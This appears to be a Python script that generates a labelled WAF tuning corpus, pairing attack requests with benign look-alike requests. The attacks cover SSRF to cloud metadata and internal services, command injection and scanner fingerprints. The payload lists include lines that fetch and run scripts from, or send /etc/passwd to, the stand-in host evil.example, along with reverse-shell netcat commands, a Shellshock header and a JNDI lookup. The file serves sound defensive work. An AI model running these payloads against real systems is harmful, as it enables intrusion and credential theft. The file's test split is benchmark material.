# ruff: noqa: E501 - payload and sample lists read best one line each
"""Eighth batch of the WAF tuning corpus (round 6, issue 15): SSRF, scanners, command injection.

Written from public knowledge only -- PayloadsAllTheThings (SSRF bypasses and
cloud metadata endpoints, command injection), the OWASP CRS data files
(scanners-user-agents.data, scanners-headers.data, 932xxx/934xxx logic),
nuclei templates' probe paths and commix's techniques -- never from a
held-out set.  (batch7.py, written in parallel, is SQL.)

Every attack family comes with the benign traffic nearest to it:

* SSRF targets in less common spellings (decimal, octal, hex, IPv6-mapped,
  ``0``, ``[::]``, wildcard-DNS and ``*.localhost`` names, metadata hosts and
  paths of GCP/Azure/Alibaba/Oracle/DigitalOcean/OpenStack/Hetzner, ``file:``,
  ``gopher:``, ``dict:``, ``ldap:``, ``jar:``, ``netdoc:``) placed in query,
  nested JSON, webhook configs, form fields, URL-valued headers and the
  *query of a Referer* -- against public URLs, docs links, webhook configs with
  public hosts, Referers of ordinary pages and developers' ``localhost`` pages;
* scanner fingerprints (user agents from CRS and the tools' docs, headers only
  scanners send, OAST callback hosts, probe paths with and without a route
  prefix) -- against browsers, mobile apps, API client libraries, monitoring
  agents and API paths with similar words;
* command injection as commix and PayloadsAllTheThings spell it -- against
  support tickets quoting shell, Java/Python dotted names, file paths in error
  logs and passwords with punctuation.

A seeded 30% is marked ``"split": "tune-test"`` (``split_of`` as in batch 6,
new salt); its own RNG keeps the earlier batches byte-identical.
"""

from __future__ import annotations

import hashlib
import json
import random
from urllib.parse import quote, urlencode

from batch4 import _place, _ua

rng8 = random.Random(8088)
TEST_SHARE = 0.30

SSRF8 = [
    "http://0.0.0.0:8080/actuator",
    "http://[::]:3000/",
    "http://[0:0:0:0:0:0:0:1]/admin",
    "http://[::ffff:7f00:1]/admin",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://0x7f.1/",
    "http://0x7f000001:8080/",
    "http://0177.1/",
    "http://00000177.00000000.00000000.00000001/",
    "http://3232235777/",
    "http://2130706433:6379/",
    "http://127.127.127.127/",
    "http://127.0.1.3:8000/",
    "http://localhost.:8000/",
    "http://LOCALHOST/admin",
    "http://admin.localhost:8080/",
    "http://customer1.app.localhost/",
    "http://127.0.0.1.nip.io:8080/",
    "http://10.0.0.1.sslip.io/",
    "http://169-254-169-254.sslip.io/latest/meta-data/",
    "http://7f000001.nip.io/",
    "http://app.127.0.0.1.nip.io/",
    "http://sub.localtest.me/",
    "http://spoofed.lvh.me:8000/",
    "http://169.254.169.254.xip.io/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/instance/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/metadata/v1/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/opc/v1/identity/",
    "http://192.0.0.192/latest/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.169.254/hetzner/v1/metadata",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/api/token",
    "http://0xa9fea9fe/",
    "http://0xA9.0xFE.0xA9.0xFE/",
    "http://0251.254.169.254/",
    "http://169.254.43518/",
    "http://2852039166/latest/meta-data/",
    "http://0/",
    "http://0:8080/",
    "http://127.1:22/",
    "http://[::1]:2379/v2/keys/?recursive=true",
    "http://localhost:2375/containers/json",
    "http://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets",
    "http://rancher-metadata/latest/self/host",
    "http://metadata.tencentyun.com/latest/meta-data/",
    "http://instance-data.ec2.internal/latest/meta-data/",
    "//169.254.169.254/latest/meta-data/",
    "file:///proc/self/environ",
    "file://localhost/etc/hosts",
    "FILE:///C:/Windows/win.ini",
    "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00",
    "gopher://localhost:3306/_%a3%00%00%01",
    "dict://127.0.0.1:6379/info",
    "ldap://localhost:389/%0astats%0aquit",
    "jar:file:///tmp/upload.zip!/evil.class",
    "netdoc:///etc/hosts",
    "tftp://evil.example:69/x",
    "sftp://evil.example:11111/",
    "https://evil.example/redirect?url=http://169.254.169.254/latest/meta-data/",
    "http://evil.example@0x7f000001/",
    "http://127.0.0.1:80\\@evil.example/",
    "169.254.169.254:80",
    "metadata.google.internal",
    "[::ffff:127.0.0.1]",
    "0x7f000001",
    "localhost:6379",
    "http://169.254.169.254/2009-04-04/meta-data/",
]
# Hosts for Host-like headers (X-Forwarded-Host, X-Host, X-Original-Host, Forwarded)
SSRF_HOSTS8 = [
    "169.254.169.254",
    "metadata.google.internal",
    "127.0.0.1:8080",
    "localhost:9200",
    "0x7f000001",
    "[::1]",
    "169.254.169.254.nip.io",
    "100.100.100.200",
]
CMDI8 = [
    ";cat /etc/passwd #",
    "|| cat /etc/passwd",
    "& ping -n 5 127.0.0.1 &",
    "%0aid",
    "a);id;#",
    "';id;'",
    '";id;"',
    "; id #",
    ";/usr/bin/id",
    "| /bin/ls -al",
    "; uname -a;",
    "&& whoami &&",
    "1|sleep 5",
    "1&&sleep${IFS}5",
    ";sleep 5;",
    "x;curl${IFS}http://evil.example/$(whoami)",
    ";wget -q -O- http://evil.example/a.sh|sh",
    "; cat$IFS/etc/passwd",
    "; c''at /etc/pa''sswd",
    "; c\\at /et\\c/pas\\swd",
    "; /???/c?t /???/p?????",
    ";{ls,-la,/}",
    "$(printf 'id')",
    "; echo ${PATH:0:1}etc${PATH:0:1}passwd",
    "| type C:\\Windows\\win.ini",
    "& dir c:\\",
    "| net user",
    "& whoami /all",
    "& ipconfig /all",
    "; cat /proc/self/environ",
    "; find / -perm -4000 -type f",
    "; chmod 777 /tmp/x",
    ";python3 -c 'import os;os.system(\"id\")'",
    "; perl -e 'print `id`'",
    "; ruby -e 'exec \"id\"'",
    "; php -r 'system(\"id\");'",
    "; nc -lvp 4444 -e /bin/sh",
    "; busybox nc 10.0.0.1 4444 -e sh",
    "; sh -c 'id'",
    "| bash -c id",
    "; env",
    "; ls /",
    "test||id",
    "`sleep 5`",
    "x$(sleep 5)x",
    "0;cat /etc/hosts",
    "127.0.0.1%0acat /etc/passwd",
    "8.8.8.8|nslookup evil.example",
    "; timeout 5 yes",
    "| head -n 5 /etc/passwd",
    "& powershell -c Get-Process",
    "|certutil -urlcache -f http://evil.example/x.exe x.exe",
    "; curl -d @/etc/passwd http://evil.example/",
    "; tar cf - /etc | nc evil.example 9000",
    ";$(id)",
    "a`id`b",
    "|/usr/bin/whoami",
    "; id > /tmp/out",
]
SCANNER_UA8 = [
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Fuzz Faster U Fool v2.1.0-dev",
    "feroxbuster/2.10.2",
    "gobuster/3.6",
    "Wfuzz/3.1.0",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36 Netsparker",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    "Nessus SOAP v0.0.1 (Nessus.org)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Joomscan/0.0.7)",
    "WhatWeb/0.5.5",
    "Mozilla/5.0 (compatible; Metis)",
    "Mozilla/4.0 (compatible; MSIE 6.0; bilbo)",
    "crimscanner/1.0",
    "s.t.a.l.k.e.r.",
    "Mozilla/5.0 (compatible; prog.CustomCrawler)",
    "core-project/1.0",
    "Gootkit auto-rooter scanner",
    "Mozilla/5.0 (Windows; U) whcc/0.6",
    "uil2pn",
    "Mozilla/5.0 (compatible; arachni/v1.5.1)",
    "Mozilla/5.0 (X11; Linux) w3af.sf.net",
    "dirsearch/0.4.3",
    "Mozilla/5.0 (compatible; Nmap NSE)",
]
# (header, value) pairs only scanners send (CRS scanners-headers.data, tools' docs)
SCANNER_HEADERS8 = [
    ("acunetix-product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
    ("x-scanner", "Netsparker"),
    ("acunetix-aspect", "enabled"),
    ("x-wipp", "AscVersion=22.1.0.111"),
    ("range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14"),
    ("referer", "http://x.bxss.me/"),
    ("x-forwarded-host", "abc123.oast.fun"),
    ("referer", "https://c59e3crp82ke7bcnedq0cg4bqjyyyyyyn.oast.pro/"),
    ("x-real-ip", "spoofed.burpcollaborator.net"),
    ("user-agent", "() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id"),
    ("via", "1.1 nuclei-proxy (Nuclei - Open-source project)"),
    ("x-api-version", "${jndi:dns://x.interactsh.com/a}"),
]
SCANNER_PATHS8 = [
    "/wp-admin",
    "/wp-login",
    "/pma",
    "/myadmin",
    "/dbadmin/",
    "/mysqladmin/index",
    "/api/v2/.env",
    "/app/.git/HEAD",
    "/static/.DS_Store",
    "/api/.aws/credentials",
    "/v1/actuator/env",
    "/api/server-status",
    "/backend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test-cgi",
    "/_cat/indices",
    "/_cluster/health",
    "/_all/_search",
    "/_nodes/stats",
    "/api/nginx_status",
    "/_vti_bin/_vti_aut/author.dll",
    "/CVS/Entries",
    "/api/v1/struts2-showcase/",
    "/api/containers/json",
    "/db.sql",
    "/api/dump.sql.gz",
    "/wordpress/wp-admin/setup-config.php",
    "/admin/.env.production",
    "/.vscode/sftp.json",
    "/api/v2/.git/config",
    "/old/phpinfo.php",
    "/solr/admin/cores",
    "/jenkins/script",
    "/manager/html",
    "/api/jolokia/list",
    "/prefix/debug/pprof/heap",
    "/api/heapdump",
    "/HNAP1/",
    "/.well-known/../.env",
    "/web-console/",
    "/telescope/requests",
]

# ---- benign twins ----------------------------------------------------------------------
PUBLIC_URLS8 = [
    "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
    "https://api.github.com/repos/acme/site/hooks",
    "https://example.com/callback?next=https://example.com/home",
    "https://10.example.com/",
    "https://localhost.example.com/app",
    "https://metadata.example.com/v1/items",
    "https://nip.io/",
    "https://sslip.io/",
    "https://docs.docker.com/engine/api/",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://docs.oracle.com/en-us/iaas/Content/Compute/Tasks/gettingmetadata.htm",
    "https://docs.digitalocean.com/reference/api/metadata-api/",
    "https://www.alibabacloud.com/help/en/ecs/user-guide/overview-of-ecs-instance-metadata",
    "ftp://ftp.example.org/pub/README",
    "https://files.example.net/export/2024/orders.zip",
    "https://example.org/wiki/File:Example.jpg",
    "https://cdn.example.com/v1/0x7f/asset.png",
    "https://api.example.com/v1/items?ids=127,0,0,1",
    "https://status.example.com/incidents/127001",
    "https://example.com/redirect?to=%2Fdashboard",
    "mailto:support@example.com",
    "https://maps.example.com/@40.7128,-74.0060,12z",
    "https://app.example.com/#/settings/hooks",
]
WEBHOOK_CONFIGS8 = [
    {"url": "https://hooks.example.com/ramparts", "events": ["push", "release"], "secret": "whsec_9f8a7b"},
    {"endpoint": "https://api.partner.example/v2/notify", "method": "POST", "headers": {"X-Env": "prod"}},
    {"target": {"url": "https://ci.example.org/github-webhook/", "content_type": "json"}},
    {"integrations": [{"type": "slack", "url": "https://hooks.slack.com/services/T1/B2/C3"}, {"type": "http", "url": "https://example.net/hook"}]},
    {"callback_url": "https://shop.example.com/payments/return?order=1042", "cancel_url": "https://shop.example.com/cart"},
]
REFERER_PAGES8 = [
    "https://app.example.com/orders?status=open&page=2",
    "https://www.google.com/search?q=ramparts+localhost+refused+connection",
    "https://app.example.com/login?next=https%3A%2F%2Fapp.example.com%2Fhome",
    "https://app.example.com/settings?tab=api&redirect=/dashboard",
    "http://localhost:3000/dashboard?debug=1",
    "http://127.0.0.1:8000/admin/?tab=users",
    "https://app.example.com/import?source=https%3A%2F%2Fexample.org%2Ffeed.xml",
    "https://app.example.com/search?q=metadata+service&sort=-score",
    "https://news.ycombinator.com/item?id=40000000",
    "https://app.example.com/files?path=%2Fhome%2Fana%2Freports",
    "https://duckduckgo.com/?q=how+to+ssh+into+ec2",
    "https://app.example.com/help?q=what+is+169.254",
]
DOTTED8 = [
    "com.example.app.Main",
    "config.db.host",
    "org.apache.kafka.clients.consumer.KafkaConsumer",
    "app.settings.local",
    "logging.handlers.RotatingFileHandler",
    "spring.datasource.url",
    "db.internal.timeout",
    "io.netty.channel.local.LocalChannel",
    "services.metadata.enabled",
    "cluster.local.replicas",
    "feature.flags.localhost_mode",
    "java.lang.NullPointerException at com.acme.billing.Invoice.total(Invoice.java:42)",
    "File \"/usr/lib/python3.11/site-packages/app/main.py\", line 12, in handler",
    "C:\\Program Files\\Acme\\bin\\acme.exe",
    "/home/ana/projects/site/.env.example",
    "src/main/resources/application.properties",
    "~/.config/acme/settings.json",
    "/var/lib/app/uploads/2024/05/invoice.pdf",
    "/opt/app/bin/run.sh",
    "kubernetes.io/hostname",
    "k8s.gcr.io/pause:3.9",
    "v1.2.3",
    "10.4.2",
    "0.0.1",
    "127.0.0",
]
ERROR_LOGS8 = [
    "2024-05-02 10:11:12 ERROR [main] c.e.app.Main - Connection refused: localhost/127.0.0.1:5432",
    "Traceback (most recent call last):\n  File \"/srv/app/handler.py\", line 40, in run\nConnectionError: http://localhost:9200 unreachable",
    "WARN ssh: connect to host 10.0.0.12 port 22: Connection timed out",
    "upstream timed out while reading response header from upstream, client: 203.0.113.7, server: _, request: \"GET /api/items HTTP/1.1\"",
    "FATAL: password authentication failed for user \"app\" (host=db.internal)",
    "curl: (7) Failed to connect to 127.0.0.1 port 8080: Connection refused",
]
SHELL8 = [
    "Ran `curl -I https://api.example.com` and got 502 from the gateway.",
    "Steps: cd /srv/app && git pull && systemctl restart app",
    "The command `ping -c 3 10.0.0.1` works from the box but not from the container.",
    "I used `find . -name '*.log' -mtime +7 | xargs rm` to clean up.",
    "Output of `uname -a`: Linux web-1 6.1.0-18-amd64 x86_64 GNU/Linux",
    "We set `export PATH=$PATH:/usr/local/go/bin` in the profile.",
    "Please run `sudo journalctl -u app --since today | tail -n 50` and attach it.",
    "Windows users: open cmd and run `ipconfig /all`, then send us the output.",
    "The deploy script does `tar czf release.tgz build/ && scp release.tgz deploy@host:`",
    "Tom & Jerry; R&D | Sales",
    "A|B testing results; see sheet 2",
    "Run `env | grep APP_` to check the variables.",
]
UAS8 = [
    "MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/8.6.0",
    "Wget/1.21.4",
    "Python/3.12 aiohttp/3.9.5",
    "Apache-HttpClient/4.5.14 (Java/17.0.2)",
    "Java/17.0.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
    "PostmanRuntime/7.39.0",
    "insomnia/9.2.0",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/7a8b9c1",
    "ELB-HealthChecker/2.0",
    "kube-probe/1.29",
    "Prometheus/2.51.0",
    "Datadog Agent/7.52.0",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "HTTPie/3.2.2",
    "Scrapy/2.11.1 (+https://scrapy.org)",
    "Zapier",
    "ory-hydra/v2.2.0",
    "axios/1.7.2",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Mobile Safari/537.36",
    "MyBankApp/3.14.0 (Android 13; Build 31400)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
]
API_PATHS8 = [
    "/api/v2/env-vars",
    "/api/admin/users",
    "/api/git/repos/12",
    "/api/backups/latest",
    "/api/configs/db",
    "/api/status/server",
    "/docs/actuator-guide",
    "/blog/how-we-removed-wp-admin",
    "/api/v2/scanners/nessus-import",
    "/api/v2/cats/indices",
    "/api/v2/cluster-health",
    "/api/v2/nodes/stats",
    "/api/v2/containers",
    "/api/v2/exports/orders.csv",
    "/api/v2/dumps",
    "/api/v2/manager/reports",
    "/api/v2/consoles",
    "/api/pma-reports",
    "/api/v2/admin",
    "/favicon.ico",
    "/.well-known/security.txt",
    "/.well-known/openid-configuration",
    "/api/v2/search/all",
    "/api/v2/vendors/php-unit-tests",
]
PASSWORDS8 = [
    "Tr0ub4dor&3",
    "S3cure|Pass",
    "my;password;is;long",
    "P@$$w0rd!",
    "hunter2;",
    "x&&y!Z9q",
    "Sp!ng(2024)",
    "`Backtick`Pass1",
]


def split_of(item_id: str) -> str:
    digest = hashlib.sha256(f"batch8:{item_id}".encode()).digest()
    return "tune-test" if digest[0] < int(256 * TEST_SHARE) else "tune"


def _ssrf_request(payload: str, i: int, r: random.Random) -> dict:
    """The URL where SSRF reaches an API: webhook config, Referer query, form, header."""
    headers = {"user-agent": _ua(r), "accept": "application/json"}
    where = i % 6
    if where == 0:  # a webhook configuration, nested
        headers["content-type"] = "application/json"
        body = {"name": "deploy hook", "config": {"webhooks": [{"url": payload, "events": ["push"], "active": True}]}}
        return {"method": "POST", "path": "/api/v2/integrations", "query": "", "headers": headers, "body": json.dumps(body)}
    if where == 1:  # the page a client came from carries it in its query
        headers["referer"] = "https://app.example.com/import?" + urlencode({"source": payload, "step": "2"})
        return {"method": "GET", "path": "/api/v2/import/preview", "query": "", "headers": headers, "body": None}
    if where == 2:  # a form field
        headers["content-type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "path": "/api/v2/avatar", "query": "", "headers": headers, "body": urlencode({"image_url": payload, "size": "64"})}
    if where == 3:  # a URL-valued header
        headers[r.choice(["x-original-url", "x-callback-url", "x-rewrite-url", "x-webhook-url"])] = payload
        return {"method": "GET", "path": "/api/v2/status", "query": "", "headers": headers, "body": None}
    if where == 4:  # JSON deep in a list
        headers["content-type"] = "application/json"
        body = {"jobs": [{"id": 1, "source": {"kind": "http", "fetch": {"from": payload}}}]}
        return {"method": "PUT", "path": "/api/v2/jobs", "query": "", "headers": headers, "body": json.dumps(body)}
    return _place(payload, i, r)


def attacks8() -> list[dict]:
    r = rng8
    out: list[dict] = []

    def add(item_id: str, category: str, source: str, req: dict) -> None:
        out.append({"id": item_id, "category": category, "source": f"tuning: eighth batch ({source})",
                    "split": split_of(item_id), "request": req})

    for i, payload in enumerate(SSRF8):
        add(f"ssrf-h{i:03d}", "ssrf", "SSRF spellings and places", _ssrf_request(payload, i, r))
    for i, host in enumerate(SSRF_HOSTS8):
        headers = {"user-agent": _ua(r), "accept": "application/json",
                   r.choice(["x-forwarded-host", "x-host", "x-original-host", "x-forwarded-server"]): host}
        add(f"ssrf-hhost{i:03d}", "ssrf", "host-like headers",
            {"method": "GET", "path": "/api/v2/links", "query": "", "headers": headers, "body": None})
    for i, payload in enumerate(CMDI8):
        req = _place(payload, i + 3, r, header_ok="\n" not in payload and "\r" not in payload)
        add(f"command_injection-h{i:03d}", "command_injection", "commix and PayloadsAllTheThings", req)
    for i, ua in enumerate(SCANNER_UA8):
        add(f"scanner-hua{i:03d}", "scanner", "scanner user agents",
            {"method": "GET", "path": r.choice(["/", "/api/v2/items", "/login"]), "query": "",
             "headers": {"user-agent": ua, "accept": "*/*"}, "body": None})
    for i, (name, value) in enumerate(SCANNER_HEADERS8):
        headers = {"user-agent": _ua(r), "accept": "*/*"}
        headers[name] = value
        add(f"scanner-hhdr{i:03d}", "scanner", "scanner headers and callback hosts",
            {"method": "GET", "path": "/api/v2/items", "query": "", "headers": headers, "body": None})
    for i, path in enumerate(SCANNER_PATHS8):
        add(f"scanner-hpath{i:03d}", "scanner", "probe paths",
            {"method": r.choice(["GET", "GET", "HEAD"]), "path": path, "query": "",
             "headers": {"user-agent": _ua(r), "accept": "*/*"}, "body": None})
    return out


def benign8() -> list[dict]:
    r = rng8
    out: list[dict] = []

    def add(kind: str, req: dict) -> None:
        item_id = f"benign8-{kind}-{len(out):04d}"
        out.append({"id": item_id, "category": "benign", "kind": kind,
                    "source": "tuning: eighth batch (benign twins)", "split": split_of(item_id), "request": req})

    def post(payload: object, path: str, method: str = "POST", ua: str | None = None) -> dict:
        return {"method": method, "path": path, "query": "",
                "headers": {"user-agent": ua or _ua(r), "content-type": "application/json"},
                "body": json.dumps(payload, ensure_ascii=r.random() < 0.5)}

    def get(path: str, query: str = "", **headers: str) -> dict:
        return {"method": "GET", "path": path, "query": query,
                "headers": {"user-agent": _ua(r), "accept": "application/json", **headers}, "body": None}

    for url in PUBLIC_URLS8:
        add("urls", post({"link": url, "title": "see also"}, "/api/v2/bookmarks"))
        add("urls", get("/api/v2/preview", f"url={quote(url, safe='')}"))
        add("urls", {"method": "POST", "path": "/api/v2/avatar", "query": "", "body": urlencode({"image_url": url}),
                     "headers": {"user-agent": _ua(r), "content-type": "application/x-www-form-urlencoded"}})
    for config in WEBHOOK_CONFIGS8:
        add("webhook_config", post({"name": "hook", "config": config}, "/api/v2/integrations"))
    for page in REFERER_PAGES8:
        add("referer", get("/api/v2/items", "page=1", referer=page))
        add("referer", get("/api/v2/search", "q=orders", referer=page, origin=page.split("/", 3)[0] + "//" + page.split("/", 3)[2]))
    for text in DOTTED8:
        add("dotted_path", post({"key": text, "value": "true"}, "/api/v2/settings"))
        add("dotted_path", get("/api/v2/config", f"name={quote(text, safe='')}"))
    for text in ERROR_LOGS8:
        add("error_log", post({"level": "error", "message": text, "service": "billing"}, "/api/v2/logs"))
    for text in SHELL8:
        add("support_shell", post({"ticket": 77, "comment": text}, "/api/tickets/77/comments"))
    for ua in UAS8:
        add("user_agents", {"method": "GET", "path": r.choice(["/api/v2/items", "/", "/api/v2/me"]), "query": "",
                            "headers": {"user-agent": ua, "accept": "*/*"}, "body": None})
    for path in API_PATHS8:
        add("api_paths", get(path))
    for pw in PASSWORDS8:
        add("form_login", {"method": "POST", "path": "/login", "query": "",
                           "body": urlencode({"username": r.choice(["ana", "li.wei", "o'brien"]), "password": pw}),
                           "headers": {"user-agent": _ua(r), "content-type": "application/x-www-form-urlencoded"}})
    for host in ["api.example.com", "app.example.com:8443", "shop.example.org"]:
        add("host_headers", get("/api/v2/links", "", **{"x-forwarded-host": host}))
    return out
